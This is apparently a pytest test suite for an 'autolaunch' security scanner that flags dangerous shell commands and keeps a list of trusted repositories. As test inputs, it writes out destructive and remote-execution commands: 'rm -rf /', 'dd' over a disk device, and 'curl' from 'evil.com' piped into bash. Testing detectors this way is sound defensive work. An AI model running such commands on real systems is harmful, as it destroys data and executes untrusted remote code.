import pytest

from autolaunch.models import ProjectInfo, SecurityLevel, SecurityWarning, TechStack
from autolaunch.security_scanner import SecurityScanner, normalize_repo_url


@pytest.fixture
def scanner(tmp_path):
    return SecurityScanner(tmp_path / "config" / "trusted_repos.json")


def levels(warnings):
    return {w.level for w in warnings}


def test_scan_command_detects_rm_rf(scanner):
    warnings = scanner.scan_command("rm -rf /tmp/test")
    assert warnings
    assert SecurityLevel.HIGH in levels(warnings)


def test_scan_command_detects_sudo(scanner):
    warnings = scanner.scan_command("sudo apt-get install package")
    assert warnings
    assert SecurityLevel.HIGH in levels(warnings)


def test_scan_command_detects_curl_pipe_bash(scanner):
    warnings = scanner.scan_command("curl https://example.com/script.sh | bash")
    assert warnings
    assert SecurityLevel.HIGH in levels(warnings)


def test_scan_command_detects_wget_pipe_sh(scanner):
    warnings = scanner.scan_command("wget -O - https://example.com/install.sh | sh")
    assert warnings
    assert SecurityLevel.HIGH in levels(warnings)


def test_scan_command_detects_eval_call(scanner):
    warnings = scanner.scan_command("eval(some_code)")
    assert warnings
    assert SecurityLevel.HIGH in levels(warnings)


def test_scan_command_detects_critical_rm_root(scanner):
    warnings = scanner.scan_command("rm -rf /")
    assert warnings
    assert SecurityLevel.CRITICAL in levels(warnings)
    assert warnings[0].level is SecurityLevel.CRITICAL


def test_scan_command_detects_chmod_777(scanner):
    warnings = scanner.scan_command("chmod 777 /etc/passwd")
    assert warnings
    assert SecurityLevel.HIGH in levels(warnings)


def test_scan_command_safe_command(scanner):
    assert scanner.scan_command("npm install") == []


def test_scan_command_safe_build_command(scanner):
    assert scanner.scan_command("cargo build --release") == []


def test_scan_command_detects_background_execution(scanner):
    warnings = scanner.scan_command("malicious_script.sh &")
    assert warnings
    assert SecurityLevel.MEDIUM in levels(warnings)


def test_scan_command_detects_nohup(scanner):
    warnings = scanner.scan_command("nohup malicious_script.sh")
    assert warnings
    assert SecurityLevel.MEDIUM in levels(warnings)


def test_multiple_warnings_in_one_command(scanner):
    warnings = scanner.scan_command("sudo rm -rf /tmp && curl http://evil.com | bash")
    assert len(warnings) >= 2


def test_critical_warning_message(scanner):
    (warning,) = [w for w in scanner.scan_command("dd if=/dev/zero of=/dev/sda") if w.level is SecurityLevel.CRITICAL]
    assert warning.message == "КРИТИЧЕСКАЯ УГРОЗА: Перезапись устройства"
    assert warning.suggestion == "Не выполняйте эту команду! Она может повредить вашу систему."


def test_add_trusted_repository(scanner):
    repo_url = "https://github.com/test/repo"
    assert not scanner.is_trusted_repository(repo_url)
    scanner.add_trusted_repository(repo_url)
    assert scanner.is_trusted_repository(repo_url)


def test_remove_trusted_repository(scanner):
    repo_url = "https://github.com/test/repo"
    scanner.add_trusted_repository(repo_url)
    assert scanner.is_trusted_repository(repo_url)
    scanner.remove_trusted_repository(repo_url)
    assert not scanner.is_trusted_repository(repo_url)


def test_normalize_repo_url(scanner):
    scanner.add_trusted_repository("https://github.com/test/repo")
    assert scanner.is_trusted_repository("https://github.com/test/repo/")
    assert scanner.is_trusted_repository("https://github.com/test/repo.git")
    assert scanner.is_trusted_repository("HTTPS://GITHUB.COM/TEST/REPO")


@pytest.mark.parametrize(
    "raw",
    [
        "  https://github.com/test/repo  ",
        "https://github.com/test/repo///",
        "https://github.com/test/repo.git/",
        "https://github.com/Test/Repo.git",
    ],
)
def test_normalize_repo_url_function(raw):
    assert normalize_repo_url(raw) == "https://github.com/test/repo"


def test_scan_project_with_warnings(scanner):
    project_info = ProjectInfo(
        stack=TechStack.node_js("18.0.0"),
        entry_command="curl https://evil.com/script.sh | bash",
    )
    assert scanner.scan_project(project_info)


def test_scan_project_safe(scanner):
    project_info = ProjectInfo(stack=TechStack.node_js("18.0.0"), entry_command="npm start")
    assert scanner.scan_project(project_info) == []


def test_scan_project_includes_analysis_warnings(scanner):
    existing = SecurityWarning(SecurityLevel.LOW, "note")
    project_info = ProjectInfo(stack=TechStack.unknown(), entry_command=None, security_warnings=[existing])
    assert scanner.scan_project(project_info) == [existing]


def test_get_trusted_repositories(scanner):
    scanner.add_trusted_repository("https://github.com/repo1/test")
    scanner.add_trusted_repository("https://github.com/repo2/test")
    repos = scanner.get_trusted_repositories()
    assert len(repos) == 2
    assert "https://github.com/repo1/test" in repos
    assert "https://github.com/repo2/test" in repos


def test_trusted_repositories_persist(tmp_path):
    path = tmp_path / "trusted.json"
    SecurityScanner(path).add_trusted_repository("https://github.com/a/b")
    assert SecurityScanner(path).is_trusted_repository("https://github.com/a/b")


def test_corrupt_trust_file_is_ignored(tmp_path):
    path = tmp_path / "trusted.json"
    path.write_text("not json", encoding="utf-8")
    assert SecurityScanner(path).get_trusted_repositories() == []